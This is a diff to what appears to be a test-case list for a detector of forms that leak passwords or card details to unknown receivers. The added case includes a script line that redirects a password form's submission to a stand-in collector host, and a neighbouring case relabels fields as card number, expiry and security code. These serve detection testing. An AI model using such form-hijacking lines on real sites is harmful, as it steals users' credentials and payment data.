@@ -47,6 +47,12 @@ const CASES = /** @type {const} */ ([
     "form_password_to_unknown",
   ],
   [
+    "a form that hides its own abilities behind its fields, and changes its receiver",
+    `<form action="/in/" method="post"><input name="matches">${PASSWORD}</form>`,
+    `document.querySelector("form").setAttribute("action", "https://collector.example/");`,
+    "form_password_to_unknown",
+  ],
+  [
     "labels that change",
     `<form ${TO_STRANGER}><label>One <input></label><label>Two <input></label><label>Three <input></label></form>`,
     `["Card number", "Expiry MM/YY", "Security code"].forEach((text, at) => {
